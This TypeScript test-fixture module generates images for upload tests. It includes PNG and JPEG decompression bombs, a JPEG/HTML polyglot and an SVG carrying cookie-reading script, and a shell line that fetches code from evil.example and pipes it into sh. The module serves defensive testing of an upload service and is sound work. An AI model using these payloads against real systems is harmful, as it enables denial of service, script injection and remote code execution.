import { request } from 'node:http';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/**
 * Images for upload tests, made in the test: real ones encoded by sharp, and hostile ones
 * crafted byte by byte (a pixel bomb, a truncated JPEG, polyglots, HEIC and SVG look-alikes).
 */

/** A photo-like image: noise, so it compresses like a photo and decoding does real work. */
export async function photo(
  format: 'jpeg' | 'png' | 'webp',
  width = 640,
  height = 480,
): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * 3);
  for (let i = 0; i < pixels.length; i++) pixels[i] = (i * 7919 + (i >> 9) * 31) % 251;
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .toFormat(format)
    .toBuffer();
}

/** A JPEG as a phone writes it: EXIF with GPS position, camera make, orientation 6 (90° CW). */
export async function jpegWithGps(width = 64, height = 48): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#3a6' } })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Phone 15' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '48/1 8/1 2/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '11/1 34/1 5/1',
      },
    })
    .jpeg()
    .toBuffer();
}

/** True when the EXIF block (as sharp's metadata gives it) points to a GPS IFD (tag 0x8825). */
export function exifHasGps(exif: Buffer | undefined): boolean {
  if (!exif) return false;
  const tiff = exif.subarray(exif.indexOf('Exif\0\0') === 0 ? 6 : 0);
  const little = tiff.toString('latin1', 0, 2) === 'II';
  const u16 = (at: number) => (little ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number) => (little ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const ifd0 = u32(4);
  const entries = u16(ifd0);
  for (let i = 0; i < entries; i++) if (u16(ifd0 + 2 + i * 12) === 0x8825) return true;
  return false;
}

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) {
    let c = (crc ^ byte) & 0xff;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    crc = (crc >>> 8) ^ c;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A decompression bomb: a PNG of a few hundred bytes whose header declares `size` × `size`
 * RGB pixels (1.2 GB decoded at 20000), with a few rows of zeros compressed behind it.
 */
export function pngBomb(size = 20_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // RGB
  const rows = deflateSync(Buffer.alloc((1 + size * 3) * 4));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real small JPEG whose frame header (SOF) is patched to declare `size` × `size`. */
export async function jpegBomb(size = 20_000): Promise<Buffer> {
  const jpeg = Buffer.from(await photo('jpeg', 32, 32));
  for (let i = 2; i < jpeg.length - 9; i++) {
    if (jpeg[i] === 0xff && (jpeg[i + 1] === 0xc0 || jpeg[i + 1] === 0xc2)) {
      jpeg.writeUInt16BE(size, i + 5);
      jpeg.writeUInt16BE(size, i + 7);
      return jpeg;
    }
  }
  throw new Error('no SOF marker');
}

/** The first 60 % of a real JPEG: its header is whole, its pixels end early. */
export async function truncatedJpeg(): Promise<Buffer> {
  const jpeg = await photo('jpeg', 800, 600);
  return jpeg.subarray(0, Math.floor(jpeg.length * 0.6));
}

export const HTML =
  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';

/** JPEG's magic bytes, then an HTML page: sniffed as JPEG, but no image in it. */
export function jpegHeaderThenHtml(): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from(HTML)]);
}

/**
 * A real JPEG that is also an HTML page: the page in a comment segment (COM) and again after
 * the image's end marker. A browser sniffing it could run the script; a decoder shows the image.
 */
export async function jpegHtmlPolyglot(): Promise<Buffer> {
  const jpeg = await photo('jpeg', 64, 48);
  const html = Buffer.from(HTML);
  const comment = Buffer.concat([
    Buffer.from([0xff, 0xfe, (html.length + 2) >> 8, (html.length + 2) & 0xff]),
    html,
  ]);
  return Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2), html]);
}

/** The first bytes of an iPhone HEIC photo (ISO-BMFF `ftyp` box, brand heic). */
export function heicHeader(): Buffer {
  const box = Buffer.alloc(24);
  box.writeUInt32BE(24, 0);
  box.write('ftypheic', 4, 'latin1');
  box.write('\0\0\0\0mif1heic', 12, 'latin1');
  return Buffer.concat([box, Buffer.alloc(2000, 7)]);
}

export const SVG =
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>';
export const SCRIPT = '#!/bin/sh\ncurl http://evil.example/x | sh\n';

/** A multipart/form-data body with one file part and text fields, framed by hand. */
export function multipartBody(
  file: { field?: string; name?: string; type?: string; data: Buffer } | null,
  fields: Record<string, string> = {},
): { body: Buffer; contentType: string } {
  const boundary = `----shopfloor${Math.random().toString(16).slice(2)}`;
  const parts: Buffer[] = [];
  for (const [name, value] of Object.entries(fields)) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
      ),
    );
  }
  if (file) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field ?? 'file'}"; filename="${file.name ?? 'photo.jpg'}"\r\n` +
          `Content-Type: ${file.type ?? 'image/jpeg'}\r\n\r\n`,
      ),
      file.data,
      Buffer.from('\r\n'),
    );
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}

export interface SlowUploadResult {
  status: number;
  body: string;
  /** Bytes of the body written when the answer's status line arrived. */
  sentWhenAnswered: number;
  total: number;
}

/**
 * POSTs a multipart upload of `totalBytes` of JPEG-looking data in chunks, `delayMs` apart,
 * chunked (no Content-Length, so only the streaming limit can stop it) unless
 * `declareLength`; stops sending once the answer is in, and reports how much it had sent.
 */
export function slowUpload(
  url: string,
  options: {
    token: string;
    totalBytes: number;
    chunkBytes?: number;
    delayMs?: number;
    declareLength?: number;
  },
): Promise<SlowUploadResult> {
  const boundary = 'slowboundary42';
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
  );
  const chunk = Buffer.alloc(options.chunkBytes ?? 64 * 1024, 0x42);
  chunk[0] = 0xff;
  chunk[1] = 0xd8;
  chunk[2] = 0xff;
  return new Promise((resolve, reject) => {
    let sent = 0;
    let answered: { status: number; sent: number } | undefined;
    const req = request(url, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${options.token}`,
        'content-type': `multipart/form-data; boundary=${boundary}`,
        ...(options.declareLength ? { 'content-length': String(options.declareLength) } : {}),
      },
    });
    req.on('response', (res) => {
      answered = { status: res.statusCode ?? 0, sent };
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (d: string) => (body += d));
      res.on('end', () => {
        resolve({
          status: answered!.status,
          body,
          sentWhenAnswered: answered!.sent,
          total: options.totalBytes,
        });
        req.destroy();
      });
    });
    // The server may close the connection after answering: that is expected, not a failure.
    req.on('error', (error) => {
      if (!answered) reject(error);
    });
    req.write(head);
    sent += head.length;
    const next = () => {
      if (answered || req.destroyed) return;
      if (sent >= options.totalBytes) {
        req.end(`\r\n--${boundary}--\r\n`);
        return;
      }
      req.write(chunk.subarray(0, Math.min(chunk.length, options.totalBytes - sent)));
      sent += chunk.length;
      setTimeout(next, options.delayMs ?? 10);
    };
    next();
  });
}
